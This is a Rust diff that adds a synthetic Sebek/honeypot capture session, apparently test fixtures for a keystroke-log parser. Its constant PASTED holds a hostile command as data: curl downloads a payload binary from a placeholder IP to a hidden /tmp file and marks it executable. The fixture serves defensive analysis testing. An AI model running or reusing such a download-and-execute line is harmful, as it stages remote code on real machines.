@@ -394,6 +394,27 @@ pub fn write_pcap(frames: &[Frame]) -> Vec<u8> {
     out
 }
 
+/// The command line [`paste_session`]'s shell reads in one read: 85 bytes,
+/// more than the 59 of hflow2's `sys_read.data`, at most sbk_ks_log.pl's 100.
+pub const PASTED: &[u8] =
+    b"curl -s http://203.0.113.66/stage2/payload-x86_64.bin -o /tmp/.x && chmod +x /tmp/.x\r";
+
+/// A third scripted session, for keystroke logs beyond the mirror's 59
+/// bytes and across an exec: sshd (pid 3001) forks a root shell (pid 3002)
+/// into which the attacker pastes a command line, read whole in one read
+/// ([`PASTED`]); the shell then execs python (the same pid), which reads
+/// `print(1)`. Sebek port `port`; capture clock from `START_SEC + 2000`.
+pub fn paste_session(port: u16) -> Vec<Frame> {
+    let mut s = Session::new(port);
+    s.wait(2_000_000_000);
+    s.sebek(&read(3002, 3001, "sshd", 0, b""));
+    s.wait(150_000);
+    s.sebek(&read(3002, 3001, "bash", 0, PASTED));
+    s.wait(500_000);
+    s.sebek(&read(3002, 3001, "python", 0, b"print(1)\r"));
+    s.frames
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
